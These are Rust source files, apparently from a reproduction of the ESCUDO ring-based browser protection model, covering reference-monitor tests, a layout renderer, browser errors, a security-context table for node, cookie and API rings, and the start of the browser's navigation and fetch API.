        // First plan: one candidate, one token — attaches.
        let attached = erm.mediate_jar(&jar, &url, Operation::Use, &script(1), ring1);
        assert_eq!(attached, vec!["sid=s1"]);
        // Bucket empty: the baseline fast path is still metered, attaches nothing.
        let attached = erm.mediate_jar(&jar, &url, Operation::Use, &script(1), ring1);
        assert!(attached.is_empty());
        assert_eq!(tenant.admission().stats().rejected, 1);
        // The batched plan path sheds whole as well.
        let p1 = script(1);
        let requests: Vec<(&Url, &PrincipalContext)> = vec![(&url, &p1)];
        let batched = erm.mediate_jar_many(&jar, &requests, Operation::Use, ring1);
        assert_eq!(batched, vec![Vec::<String>::new()]);
    }

    #[test]
    fn check_many_counts_and_audits_like_check() {
        let mut erm = Erm::new(PolicyMode::Escudo);
        let p1 = script(1);
        let p3 = script(3);
        let object = cookie();
        let decisions = erm.check_many(&[
            (&p1, &object, Operation::Read),
            (&p3, &object, Operation::Read),
        ]);
        assert!(decisions[0].is_allowed());
        assert!(decisions[1].is_denied());
        assert_eq!(erm.checks(), 2);
        assert_eq!(erm.denials(), 1);
        assert_eq!(erm.audit().len(), 2);
    }
}
