//! A deterministic layout ("rendering") pass.
//!
//! The paper measures "parsing and rendering time"; for the overhead comparison to be
//! meaningful the reproduction needs the renderer to do real, content-proportional
//! work. This module implements a simple block/line layout: every visible element
//! becomes a box, text is broken into lines at a fixed character width, and the
//! resulting display list plus statistics are returned. The pass is identical with and
//! without ESCUDO — ESCUDO only adds the bookkeeping measured separately — exactly as
//! in the prototype, where enforcement hooks wrap the existing pipeline.

use escudo_dom::{Document, NodeData, NodeId};

/// Horizontal pixels assumed per character (fixed-width text model).
const CHAR_WIDTH: u32 = 8;
/// Pixel height of one line of text.
const LINE_HEIGHT: u32 = 16;
/// Vertical padding added around block boxes.
const BLOCK_PADDING: u32 = 4;

/// Elements that are not rendered at all.
const INVISIBLE: [&str; 6] = ["head", "script", "style", "title", "meta", "link"];

/// One box in the display list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LayoutBox {
    /// The node this box renders (element or text run).
    pub node: usize,
    /// X offset in pixels.
    pub x: u32,
    /// Y offset in pixels.
    pub y: u32,
    /// Box width in pixels.
    pub width: u32,
    /// Box height in pixels.
    pub height: u32,
    /// Number of text lines inside the box (0 for pure containers).
    pub lines: u32,
}

/// Aggregate statistics of one layout pass.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RenderStats {
    /// Number of boxes produced.
    pub boxes: usize,
    /// Number of text lines laid out.
    pub lines: usize,
    /// Number of characters measured.
    pub characters: usize,
    /// Total document height in pixels.
    pub height: u32,
}

/// The renderer.
#[derive(Debug, Clone)]
pub struct Renderer {
    viewport_width: u32,
}

impl Default for Renderer {
    fn default() -> Self {
        Renderer::new(1024)
    }
}

impl Renderer {
    /// Creates a renderer for the given viewport width in pixels.
    #[must_use]
    pub fn new(viewport_width: u32) -> Self {
        Renderer {
            viewport_width: viewport_width.max(64),
        }
    }

    /// Lays out the document and returns the display list plus statistics.
    #[must_use]
    pub fn layout(&self, document: &Document) -> (Vec<LayoutBox>, RenderStats) {
        let mut boxes = Vec::new();
        let mut stats = RenderStats::default();
        let height = self.layout_node(
            document,
            document.root(),
            0,
            0,
            self.viewport_width,
            &mut boxes,
            &mut stats,
        );
        stats.boxes = boxes.len();
        stats.height = height;
        (boxes, stats)
    }

    /// Lays out a node at (x, y) within `width`; returns the height consumed.
    #[allow(clippy::too_many_arguments)]
    fn layout_node(
        &self,
        document: &Document,
        node: NodeId,
        x: u32,
        y: u32,
        width: u32,
        boxes: &mut Vec<LayoutBox>,
        stats: &mut RenderStats,
    ) -> u32 {
        match document.data(node) {
            NodeData::Document => {
                let mut cursor = y;
                for child in document.children(node) {
                    cursor += self.layout_node(document, child, x, cursor, width, boxes, stats);
                }
                cursor - y
            }
            NodeData::Doctype(_) | NodeData::Comment(_) => 0,
            NodeData::Text(text) => {
                let trimmed = text.trim();
                if trimmed.is_empty() {
                    return 0;
                }
                let chars = trimmed.chars().count();
                let per_line = (width / CHAR_WIDTH).max(1) as usize;
                let lines = chars.div_ceil(per_line) as u32;
                stats.lines += lines as usize;
                stats.characters += chars;
                let height = lines * LINE_HEIGHT;
                boxes.push(LayoutBox {
                    node: node.index(),
                    x,
                    y,
                    width,
                    height,
                    lines,
                });
                height
            }
            NodeData::Element(element) => {
                if INVISIBLE.iter().any(|t| *t == element.tag) {
                    return 0;
                }
                let inner_width = width.saturating_sub(2 * BLOCK_PADDING).max(CHAR_WIDTH);
                let mut cursor = y + BLOCK_PADDING;
                for child in document.children(node) {
                    cursor += self.layout_node(
                        document,
                        child,
                        x + BLOCK_PADDING,
                        cursor,
                        inner_width,
                        boxes,
                        stats,
                    );
                }
                let height = (cursor + BLOCK_PADDING) - y;
                boxes.push(LayoutBox {
                    node: node.index(),
                    x,
                    y,
                    width,
                    height,
                    lines: 0,
                });
                height
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_html::{parse_document, ParseOptions};

    fn layout(html: &str) -> (Vec<LayoutBox>, RenderStats) {
        let doc = parse_document(html, &ParseOptions::default()).document;
        Renderer::default().layout(&doc)
    }

    #[test]
    fn text_produces_lines_proportional_to_length() {
        let short = layout("<body><p>tiny</p></body>").1;
        let long_text = "word ".repeat(400);
        let long = layout(&format!("<body><p>{long_text}</p></body>")).1;
        assert!(long.lines > short.lines);
        assert!(long.characters > short.characters);
        assert!(long.height > short.height);
    }

    #[test]
    fn invisible_elements_are_skipped() {
        let (_, with_script) =
            layout("<head><script>var x = 'not rendered';</script></head><body><p>hi</p></body>");
        let (_, without) = layout("<body><p>hi</p></body>");
        assert_eq!(with_script.lines, without.lines);
        assert_eq!(with_script.characters, without.characters);
    }

    #[test]
    fn nested_blocks_nest_geometrically() {
        let (boxes, stats) = layout("<body><div><div><p>deep</p></div></div></body>");
        assert!(stats.boxes >= 4);
        // Every box fits inside the viewport.
        assert!(boxes.iter().all(|b| b.x + b.width <= 1024));
        // The innermost text box is indented by the nesting padding.
        let text_box = boxes.iter().find(|b| b.lines > 0).unwrap();
        assert!(text_box.x >= 3 * BLOCK_PADDING);
    }

    #[test]
    fn empty_page_renders_to_nothing_visible() {
        let (_, stats) = layout("");
        assert_eq!(stats.lines, 0);
        assert_eq!(stats.characters, 0);
    }

    #[test]
    fn narrow_viewports_produce_more_lines() {
        let text = "x".repeat(600);
        let html = format!("<body><p>{text}</p></body>");
        let doc = parse_document(&html, &ParseOptions::default()).document;
        let wide = Renderer::new(1200).layout(&doc).1;
        let narrow = Renderer::new(200).layout(&doc).1;
        assert!(narrow.lines > wide.lines);
    }
}
