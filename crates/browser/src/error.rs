//! Browser-level errors.

use std::error::Error;
use std::fmt;

use escudo_net::NetError;

/// Errors surfaced by the browser API ([`Browser`](crate::Browser)).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BrowserError {
    /// The network layer failed (unknown host, bad URL, …).
    Net(NetError),
    /// The referenced page id is not loaded.
    NoSuchPage(usize),
    /// The referenced element does not exist in the page.
    NoSuchElement(String),
    /// The requested operation was denied by the reference monitor.
    AccessDenied(String),
    /// The server returned an error status for a navigation.
    HttpError(u16),
}

impl fmt::Display for BrowserError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BrowserError::Net(e) => write!(f, "network error: {e}"),
            BrowserError::NoSuchPage(id) => write!(f, "no page with id {id}"),
            BrowserError::NoSuchElement(selector) => write!(f, "no element matching `{selector}`"),
            BrowserError::AccessDenied(reason) => write!(f, "access denied: {reason}"),
            BrowserError::HttpError(status) => write!(f, "server returned status {status}"),
        }
    }
}

impl Error for BrowserError {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        match self {
            BrowserError::Net(e) => Some(e),
            _ => None,
        }
    }
}

impl From<NetError> for BrowserError {
    fn from(e: NetError) -> Self {
        BrowserError::Net(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn conversions_and_display() {
        let e: BrowserError = NetError::HostUnreachable("x.example".into()).into();
        assert!(e.to_string().contains("x.example"));
        assert!(e.source().is_some());
        assert!(BrowserError::NoSuchPage(3).to_string().contains('3'));
        assert!(BrowserError::AccessDenied("ring rule".into())
            .to_string()
            .contains("ring rule"));
    }
}
