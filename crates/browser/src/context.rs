//! The security-context table.
//!
//! The paper's prototype "maintains a security context derived from the configuration
//! information provided by the application, tracks it through the browser, and makes
//! it available whenever a principal makes a request". This table is that store. It is
//! deliberately **not** part of the DOM: scripts have no way to read or write it, which
//! is what makes the one-time ring mapping tamper-proof (§5).

use std::collections::HashMap;

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi, ResolvedLabel};
use escudo_core::{Acl, ObjectContext, ObjectKind, Origin, PrincipalContext, PrincipalKind, Ring};
use escudo_dom::NodeId;

/// Per-page security contexts: node labels, cookie policies and native-API rings.
#[derive(Debug, Clone)]
pub struct SecurityContextTable {
    origin: Origin,
    node_labels: HashMap<NodeId, ResolvedLabel>,
    cookie_policies: Vec<CookiePolicy>,
    api_rings: HashMap<NativeApi, Ring>,
    /// The label applied to content that carries no configuration at all (legacy pages
    /// collapse to a single fully-privileged ring; configured pages fail safe).
    default_label: ResolvedLabel,
}

impl SecurityContextTable {
    /// Creates a table for a page of the given origin.
    ///
    /// `legacy` selects the backwards-compatibility behaviour: a page with no ESCUDO
    /// configuration at all is treated as a single ring-0 system with permissive ACLs,
    /// which makes ESCUDO behave exactly like the same-origin policy for it.
    #[must_use]
    pub fn new(origin: Origin, legacy: bool) -> Self {
        let default_label = if legacy {
            ResolvedLabel {
                ring: Ring::INNERMOST,
                acl: Acl::permissive(),
            }
        } else {
            ResolvedLabel {
                ring: Ring::OUTERMOST,
                acl: Acl::ring_zero_only(),
            }
        };
        SecurityContextTable {
            origin,
            node_labels: HashMap::new(),
            cookie_policies: Vec::new(),
            api_rings: HashMap::new(),
            default_label,
        }
    }

    /// The page origin.
    #[must_use]
    pub fn origin(&self) -> &Origin {
        &self.origin
    }

    /// The label used for unlabeled content.
    #[must_use]
    pub fn default_label(&self) -> ResolvedLabel {
        self.default_label
    }

    /// Records the label of a node (done exactly once, at parse/creation time).
    pub fn set_node_label(&mut self, node: NodeId, label: ResolvedLabel) {
        self.node_labels.insert(node, label);
    }

    /// The label of a node (falling back to the page default for unlabeled nodes, e.g.
    /// text nodes or nodes created before labelling).
    #[must_use]
    pub fn node_label(&self, node: NodeId) -> ResolvedLabel {
        self.node_labels
            .get(&node)
            .copied()
            .unwrap_or(self.default_label)
    }

    /// Number of labelled nodes.
    #[must_use]
    pub fn labelled_nodes(&self) -> usize {
        self.node_labels.len()
    }

    /// Adds a cookie policy received via the `X-Escudo-Cookie-Policy` header.
    pub fn add_cookie_policy(&mut self, policy: CookiePolicy) {
        self.cookie_policies.push(policy);
    }

    /// The policy applying to a cookie name, if any (first match wins; `*` matches
    /// all). Absent a policy the fail-safe default applies: ring 0.
    #[must_use]
    pub fn cookie_policy(&self, name: &str) -> Option<&CookiePolicy> {
        self.cookie_policies.iter().find(|p| p.applies_to(name))
    }

    /// All cookie policies.
    #[must_use]
    pub fn cookie_policies(&self) -> &[CookiePolicy] {
        &self.cookie_policies
    }

    /// Records a native-API ring assignment from the `X-Escudo-Api-Policy` header.
    pub fn set_api_ring(&mut self, policy: ApiPolicy) {
        self.api_rings.insert(policy.api, policy.ring);
    }

    /// The ring required to invoke a native API. The fail-safe default is ring 0 for
    /// ESCUDO-configured pages; legacy pages run everything in ring 0 anyway.
    #[must_use]
    pub fn api_ring(&self, api: NativeApi) -> Ring {
        self.api_rings.get(&api).copied().unwrap_or(Ring::INNERMOST)
    }

    /// `true` if any API ring was explicitly configured.
    #[must_use]
    pub fn has_api_config(&self) -> bool {
        !self.api_rings.is_empty()
    }

    // -------------------------------------------------------- context builders

    /// The object context of a DOM node.
    #[must_use]
    pub fn dom_object(&self, node: NodeId, label: &str) -> ObjectContext {
        let resolved = self.node_label(node);
        ObjectContext {
            kind: ObjectKind::DomElement,
            origin: self.origin.clone(),
            ring: resolved.ring,
            acl: resolved.acl,
            label: label.to_string(),
        }
    }

    /// The object context of a cookie (by name) belonging to `cookie_origin`.
    #[must_use]
    pub fn cookie_object(&self, name: &str, cookie_origin: Origin) -> ObjectContext {
        let (ring, acl) = match self.cookie_policy(name) {
            Some(policy) => (policy.ring, policy.acl),
            // Fail-safe default from the paper: unlabelled cookies belong to ring 0.
            None => (self.default_label.ring.most_privileged(Ring::INNERMOST), {
                if self.default_label.ring == Ring::INNERMOST {
                    Acl::permissive()
                } else {
                    Acl::uniform(Ring::INNERMOST)
                }
            }),
        };
        ObjectContext {
            kind: ObjectKind::Cookie,
            origin: cookie_origin,
            ring,
            acl,
            label: format!("cookie {name}"),
        }
    }

    /// The object context of a native API.
    #[must_use]
    pub fn api_object(&self, api: NativeApi) -> ObjectContext {
        let ring = self.api_ring(api);
        ObjectContext {
            kind: ObjectKind::NativeApi,
            origin: self.origin.clone(),
            ring,
            acl: Acl::uniform(ring),
            label: format!("native API {api}"),
        }
    }

    /// The object context of browser state (history, visited links): mandatorily
    /// ring 0, not configurable.
    #[must_use]
    pub fn browser_state_object(&self) -> ObjectContext {
        ObjectContext::browser_state(self.origin.clone())
    }

    /// The principal context of a script (or event handler) running at the privilege
    /// of `node`.
    #[must_use]
    pub fn script_principal(&self, node: NodeId, label: &str) -> PrincipalContext {
        PrincipalContext {
            kind: PrincipalKind::Script,
            origin: self.origin.clone(),
            ring: self.node_label(node).ring,
            label: label.to_string(),
        }
    }

    /// The principal context of an HTTP-request-issuing element (img, form, a, …).
    #[must_use]
    pub fn request_issuer_principal(&self, node: NodeId, label: &str) -> PrincipalContext {
        PrincipalContext {
            kind: PrincipalKind::RequestIssuer,
            origin: self.origin.clone(),
            ring: self.node_label(node).ring,
            label: label.to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_dom::Document;

    fn origin() -> Origin {
        Origin::new("http", "app.example", 80)
    }

    /// Real node ids for keying the table in tests.
    fn two_nodes() -> (Document, NodeId, NodeId) {
        let mut doc = Document::new();
        let a = doc.create_element("div");
        let b = doc.create_element("p");
        (doc, a, b)
    }

    #[test]
    fn legacy_default_is_fully_privileged() {
        let table = SecurityContextTable::new(origin(), true);
        let label = table.default_label();
        assert_eq!(label.ring, Ring::INNERMOST);
        assert_eq!(label.acl, Acl::permissive());
    }

    #[test]
    fn configured_default_is_fail_safe() {
        let table = SecurityContextTable::new(origin(), false);
        let label = table.default_label();
        assert_eq!(label.ring, Ring::OUTERMOST);
        assert_eq!(label.acl, Acl::ring_zero_only());
    }

    #[test]
    fn node_labels_are_recorded_and_looked_up() {
        let (_doc, node, other) = two_nodes();
        let mut table = SecurityContextTable::new(origin(), false);
        table.set_node_label(
            node,
            ResolvedLabel {
                ring: Ring::new(2),
                acl: Acl::uniform(Ring::new(2)),
            },
        );
        assert_eq!(table.node_label(node).ring, Ring::new(2));
        assert_eq!(table.labelled_nodes(), 1);
        assert_eq!(table.node_label(other).ring, Ring::OUTERMOST);
    }

    #[test]
    fn cookie_policies_match_by_name_and_wildcard() {
        let mut table = SecurityContextTable::new(origin(), false);
        table.add_cookie_policy(CookiePolicy::new("sid", Ring::new(1)));
        table.add_cookie_policy(CookiePolicy::new("*", Ring::new(2)));
        assert_eq!(table.cookie_policy("sid").unwrap().ring, Ring::new(1));
        assert_eq!(table.cookie_policy("other").unwrap().ring, Ring::new(2));

        let ctx = table.cookie_object("sid", origin());
        assert_eq!(ctx.ring, Ring::new(1));
        assert_eq!(ctx.kind, ObjectKind::Cookie);
    }

    #[test]
    fn unlabelled_cookie_defaults_to_ring_zero() {
        let table = SecurityContextTable::new(origin(), false);
        let ctx = table.cookie_object("anything", origin());
        assert_eq!(ctx.ring, Ring::INNERMOST);
    }

    #[test]
    fn api_rings_default_to_zero_and_are_configurable() {
        let mut table = SecurityContextTable::new(origin(), false);
        assert_eq!(table.api_ring(NativeApi::XmlHttpRequest), Ring::INNERMOST);
        assert!(!table.has_api_config());
        table.set_api_ring(ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)));
        assert_eq!(table.api_ring(NativeApi::XmlHttpRequest), Ring::new(1));
        assert!(table.has_api_config());
        let ctx = table.api_object(NativeApi::XmlHttpRequest);
        assert_eq!(ctx.ring, Ring::new(1));
    }

    #[test]
    fn principal_builders_use_node_rings() {
        let (_doc, node, _other) = two_nodes();
        let mut table = SecurityContextTable::new(origin(), false);
        table.set_node_label(
            node,
            ResolvedLabel {
                ring: Ring::new(3),
                acl: Acl::uniform(Ring::new(3)),
            },
        );
        let script = table.script_principal(node, "comment script");
        assert_eq!(script.ring, Ring::new(3));
        assert_eq!(script.kind, PrincipalKind::Script);
        let issuer = table.request_issuer_principal(node, "img");
        assert_eq!(issuer.kind, PrincipalKind::RequestIssuer);
    }

    #[test]
    fn browser_state_is_always_ring_zero() {
        let table = SecurityContextTable::new(origin(), false);
        let state = table.browser_state_object();
        assert_eq!(state.ring, Ring::INNERMOST);
        assert_eq!(state.kind, ObjectKind::BrowserState);
    }
}
