//! The browser: navigation, script execution, request issuance, event dispatch,
//! history and visited links.

use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::time::Instant;

use escudo_core::config::CookiePolicy;
use escudo_core::tenant::Tenant;
use escudo_core::{
    engine_for_mode, Operation, PolicyEngine, PolicyMode, PrincipalContext, PrincipalKind,
};
use escudo_dom::EventType;
use escudo_net::{
    BackgroundBatch, CacheLayers, FetchPolicy, Method, Network, Priority, Request, Response,
    SharedCookieJar, SharedNetwork, Url,
};
use escudo_script::Interpreter;

use crate::context::SecurityContextTable;
use crate::erm::Erm;
use crate::error::BrowserError;
use crate::host::BrowserHost;
use crate::loader::{LoadOptions, PageLoader};
use crate::page::{Page, ScriptOutcome, SubresourceOutcome};
use crate::render::Renderer;

/// A handle to a loaded page.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct PageId(usize);

/// Default bound on the pipelined subresource loader's worker pool. Page loads
/// with a single planned subresource (or a bound of 1) dispatch inline on the
/// navigating thread — that inline path *is* the sequential oracle the
/// `loader_concurrent` bench compares against.
pub const DEFAULT_SUBRESOURCE_WORKERS: usize = 4;

/// Estimated total fetch cost (in nanoseconds) below which the loader dispatches
/// its plan inline instead of fanning out. The estimate comes from the fabric's
/// per-origin service-time model ([`SharedNetwork::estimated_service_ns`]:
/// configured simulated latency or the observed dispatch-time EWMA, whichever is
/// larger), so slow origins — simulated or genuinely expensive handlers — engage
/// the pipeline and fast in-memory ones keep the sequential fast path.
///
/// The threshold was 300µs when fanning out meant *spawning* scoped threads
/// (tens of microseconds per worker per page). Fan-out now submits the
/// pre-mediated plan to the fabric's **persistent parked worker pool**
/// ([`SharedNetwork::dispatch_batch`]) — a queue push and a condvar notify — so
/// the machinery pays for itself on much cheaper pages and the cutover dropped
/// to 150µs.
const SUBRESOURCE_FANOUT_THRESHOLD_NS: u64 = 150_000;

/// Per-slot result of a subresource plan dispatch: `(status, error, retries)`.
type SlotOutcome = (Option<u16>, Option<String>, u32);

/// Bound on the speculative fetches one page load may submit to the background
/// lane (markup `rel=prefetch` hints first, then visited-link predictions).
/// Speculation must never be able to crowd out real traffic, so the predictor
/// is truncated rather than throttled.
pub const PREFETCH_MAX_CANDIDATES: usize = 8;

/// The browser. One instance corresponds to one browsing session (cookie jar, history,
/// visited links) enforcing one [`PolicyMode`].
///
/// The cookie jar is held through an `Arc<SharedCookieJar>` handle: by default each
/// browser gets a private jar, but [`Browser::with_jar`] lets many concurrent
/// sessions share one host-sharded store (the server-side multi-session deployment),
/// exactly as [`Browser::with_engine`] shares one decision cache.
pub struct Browser {
    network: Network,
    jar: Arc<SharedCookieJar>,
    erm: Erm,
    history: Vec<Url>,
    visited: HashSet<String>,
    pages: Vec<Option<Page>>,
    viewport_width: u32,
    /// Bound on the subresource fetch worker pool (≥ 1; 1 = fully sequential).
    subresource_workers: usize,
    /// Cookie policies remembered per (host, cookie name), so a policy declared when a
    /// cookie was set keeps protecting it on later pages of the same application.
    cookie_policies: Vec<(String, CookiePolicy)>,
    /// `true` when this session speculatively prefetches likely next navigations
    /// (markup hints + visited links) on the fabric's background lane. Off by
    /// default: speculation is a per-session opt-in.
    prefetch_enabled: bool,
    /// Navigation fetches this session served from the prefetch cache.
    prefetch_hits: u64,
    /// `true` when this session serves repeat fetches from the fabric's shared
    /// response cache (persistent `max-age` entries) and coalesces duplicate
    /// subresource fetches within one plan. Off by default: caching is a
    /// per-session opt-in, exactly like speculation.
    response_cache_enabled: bool,
    /// Fetches this session served from persistent response-cache entries
    /// (navigations and subresources; one-shot prefetch hits count separately).
    cache_hits: u64,
    /// The resilience policy every fetch of this session dispatches under
    /// (navigation, subresources and script-initiated XHR alike). Disabled by
    /// default — the bare dispatch path, byte-identical to pre-policy sessions.
    fetch_policy: FetchPolicy,
}

impl std::fmt::Debug for Browser {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Browser")
            .field("mode", &self.erm.mode())
            .field("pages", &self.pages.len())
            .field("cookies", &self.jar.len())
            .field("history", &self.history.len())
            .finish()
    }
}

impl Browser {
    /// Creates a browser enforcing the given policy mode with a fresh decision engine.
    #[must_use]
    pub fn new(mode: PolicyMode) -> Self {
        Browser::with_engine(engine_for_mode(mode))
    }

    /// Creates a browser enforcing through an existing (possibly shared) decision
    /// engine. Several browsers — e.g. one per simulated user session against the same
    /// application — can share one engine and therefore one warm decision cache. The
    /// cookie jar stays private to this browser.
    #[must_use]
    pub fn with_engine(engine: Arc<dyn PolicyEngine>) -> Self {
        Browser::with_jar(engine, Arc::new(SharedCookieJar::new()))
    }

    /// Creates a browser enforcing through an existing engine *and* storing cookies
    /// in an existing (possibly shared) jar, over a private network fabric. This is
    /// the multi-session deployment: N sessions share one warm decision cache and
    /// one host-sharded cookie store, and every browser- or script-initiated
    /// request of every session mediates its cookie `use` through the same
    /// reference-monitor path.
    #[must_use]
    pub fn with_jar(engine: Arc<dyn PolicyEngine>, jar: Arc<SharedCookieJar>) -> Self {
        Browser::with_network(engine, jar, Arc::new(SharedNetwork::new()))
    }

    /// Creates a browser whose requests travel an existing (possibly shared)
    /// network fabric, completing the shared-everything deployment: engine, jar
    /// *and* servers are shared, so N concurrent sessions hit one set of
    /// registered applications and write one sequence-ordered request log —
    /// today each session no longer has to clone its own private world.
    #[must_use]
    pub fn with_network(
        engine: Arc<dyn PolicyEngine>,
        jar: Arc<SharedCookieJar>,
        fabric: Arc<SharedNetwork>,
    ) -> Self {
        Browser::from_erm(Erm::with_engine(engine), jar, fabric)
    }

    /// Creates a browser session bound to a control-plane tenant: every
    /// enforcement point routes through the tenant's generation-swapped
    /// [`EngineHandle`](escudo_core::tenant::EngineHandle) and its token-bucket
    /// admission control. A hot policy reload ([`Tenant::reload`]) published by
    /// the control plane is picked up at the next mediation plan boundary — a
    /// reload mid-navigation never splits one plan across generations.
    #[must_use]
    pub fn with_tenant(tenant: Arc<Tenant>) -> Self {
        Browser::with_tenant_network(
            tenant,
            Arc::new(SharedCookieJar::new()),
            Arc::new(SharedNetwork::new()),
        )
    }

    /// Tenant-bound counterpart of [`Browser::with_network`]: the session binds
    /// to `tenant` for policy and admission while sharing the given cookie jar
    /// and network fabric with other sessions (of this tenant or others).
    ///
    /// When the tenant's [`TenantConfig`](escudo_core::tenant::TenantConfig)
    /// declares a fetch fault budget, the session's [`FetchPolicy`] is
    /// assembled from it here — resilience posture is tenant policy, not
    /// per-session code. [`Browser::set_fetch_policy`] still overrides.
    #[must_use]
    pub fn with_tenant_network(
        tenant: Arc<Tenant>,
        jar: Arc<SharedCookieJar>,
        fabric: Arc<SharedNetwork>,
    ) -> Self {
        let config = *tenant.config();
        let mut browser = Browser::from_erm(Erm::with_tenant(tenant), jar, fabric);
        if config.has_fetch_budget() {
            let mut policy = FetchPolicy::disabled()
                .with_max_retries(config.fetch_max_retries)
                .with_backoff_base_ns(config.fetch_backoff_base_ns)
                .with_deadline_ns(config.fetch_deadline_ns);
            if config.fetch_breaker_threshold > 0 {
                policy = policy.with_breaker(
                    config.fetch_breaker_threshold,
                    config.fetch_breaker_cooldown_ns,
                );
            }
            browser.fetch_policy = policy;
        }
        browser
    }

    fn from_erm(erm: Erm, jar: Arc<SharedCookieJar>, fabric: Arc<SharedNetwork>) -> Self {
        Browser {
            erm,
            network: Network::with_fabric(fabric),
            jar,
            history: Vec::new(),
            visited: HashSet::new(),
            pages: Vec::new(),
            viewport_width: 1024,
            subresource_workers: DEFAULT_SUBRESOURCE_WORKERS,
            cookie_policies: Vec::new(),
            prefetch_enabled: false,
            prefetch_hits: 0,
            response_cache_enabled: false,
            cache_hits: 0,
            fetch_policy: FetchPolicy::disabled(),
        }
    }

    /// The policy mode in force. For a tenant-bound session this reflects the
    /// tenant's *current* engine generation and may change across a hot reload.
    #[must_use]
    pub fn mode(&self) -> PolicyMode {
        self.erm.mode()
    }

    /// The policy engine backing every enforcement point of this browser: the
    /// static engine it was constructed with, or — for a tenant-bound session —
    /// the engine of the generation pinned by the last mediation plan.
    #[must_use]
    pub fn engine(&self) -> &Arc<dyn PolicyEngine> {
        self.erm.engine()
    }

    /// The control-plane tenant this session is bound to, if any.
    #[must_use]
    pub fn tenant(&self) -> Option<&Arc<Tenant>> {
        self.erm.tenant()
    }

    /// Mutable access to the in-memory network (for registering servers).
    pub fn network_mut(&mut self) -> &mut Network {
        &mut self.network
    }

    /// The in-memory network (for inspecting the request log).
    #[must_use]
    pub fn network(&self) -> &Network {
        &self.network
    }

    /// The shared network fabric (clone the `Arc` to share servers, the request
    /// log and simulated latencies with another session).
    #[must_use]
    pub fn fabric(&self) -> &Arc<SharedNetwork> {
        self.network.fabric()
    }

    /// Bounds the pipelined subresource loader's worker pool. `1` makes the
    /// fetch fan-out fully sequential (the oracle path the bench gates compare
    /// against); values are clamped to at least 1.
    pub fn set_subresource_workers(&mut self, workers: usize) {
        self.subresource_workers = workers.max(1);
    }

    /// The configured subresource worker-pool bound.
    #[must_use]
    pub fn subresource_workers(&self) -> usize {
        self.subresource_workers
    }

    /// Enables or disables speculative prefetch for this session. When enabled,
    /// every page load submits its `rel=prefetch` hints and visited-link
    /// predictions to the fabric's background lane, and later navigations may
    /// consume the cached responses — but only when the navigation's own
    /// mediated cookie attachment matches the one the speculation was fetched
    /// with, so prefetch can never change a mediation decision.
    pub fn set_prefetch_enabled(&mut self, enabled: bool) {
        self.prefetch_enabled = enabled;
    }

    /// `true` when speculative prefetch is enabled for this session.
    #[must_use]
    pub fn prefetch_enabled(&self) -> bool {
        self.prefetch_enabled
    }

    /// Navigation fetches this session has served from the prefetch cache.
    #[must_use]
    pub fn prefetch_hits(&self) -> u64 {
        self.prefetch_hits
    }

    /// Enables or disables the shared response cache for this session. When
    /// enabled, `GET` fetches whose mediated `Cookie` header matches a fresh
    /// cached entry are served as a refcount bump — mediation still runs in
    /// full, only the transport is skipped, and the hit is logged under the
    /// fetch's own sequence number — and duplicate URLs within one subresource
    /// plan dispatch once (single-flight). Responses become cacheable only by
    /// declaring `Cache-Control: max-age=N`, and a response carrying
    /// `Set-Cookie` is never cached (per-recipient state must not be shared
    /// across sessions). This opt-in serves only persistent entries; one-shot
    /// prefetch entries stay behind [`Browser::set_prefetch_enabled`].
    pub fn set_response_cache_enabled(&mut self, enabled: bool) {
        self.response_cache_enabled = enabled;
    }

    /// `true` when the shared response cache is enabled for this session.
    #[must_use]
    pub fn response_cache_enabled(&self) -> bool {
        self.response_cache_enabled
    }

    /// Fetches this session has served from persistent response-cache entries.
    #[must_use]
    pub fn cache_hits(&self) -> u64 {
        self.cache_hits
    }

    /// Sets the resilience policy for every fetch this session makes —
    /// navigations, the subresource fan-out and script-initiated XHR. Retries
    /// re-dispatch the already-mediated request **verbatim** (one mediation
    /// plan, one engine generation, no re-mediation), so the policy can mask
    /// transient fabric faults but never widen a security decision. The
    /// default is [`FetchPolicy::disabled`] — the exact bare dispatch path.
    pub fn set_fetch_policy(&mut self, policy: FetchPolicy) {
        self.fetch_policy = policy;
    }

    /// The resilience policy in force for this session's fetches.
    #[must_use]
    pub fn fetch_policy(&self) -> FetchPolicy {
        self.fetch_policy
    }

    /// The cookie jar handle (clone the `Arc` to share it with another session).
    #[must_use]
    pub fn cookie_jar(&self) -> &Arc<SharedCookieJar> {
        &self.jar
    }

    /// The reference monitor (audit log, counters).
    #[must_use]
    pub fn erm(&self) -> &Erm {
        &self.erm
    }

    /// Navigation history (oldest first).
    #[must_use]
    pub fn history(&self) -> &[Url] {
        &self.history
    }

    /// `true` when the given URL has been visited in this session.
    #[must_use]
    pub fn is_visited(&self, url: &str) -> bool {
        Url::parse(url)
            .map(|u| self.visited.contains(&u.to_string()))
            .unwrap_or(false)
    }

    /// A loaded page.
    ///
    /// # Panics
    ///
    /// Panics if `id` does not refer to a loaded page (page ids come from this
    /// browser's own navigation methods, so an invalid id is a programming error).
    #[must_use]
    pub fn page(&self, id: PageId) -> &Page {
        self.pages[id.0].as_ref().expect("page id is valid")
    }

    // ------------------------------------------------------------- navigation

    /// Navigates to a URL as a user action (address bar / bookmark): the request is
    /// issued by the browser itself, so session cookies are attached.
    ///
    /// # Errors
    ///
    /// Fails when the URL is invalid or no server is registered for its origin.
    pub fn navigate(&mut self, url: &str) -> Result<PageId, BrowserError> {
        let url = Url::parse(url)?;
        let principal = PrincipalContext::browser(url.origin());
        self.load_page(url, Method::Get, String::new(), principal)
    }

    /// Follows a link (`a href`) in a loaded page. The anchor element is the
    /// HTTP-request-issuing principal, so cookie attachment is subject to its ring.
    ///
    /// # Errors
    ///
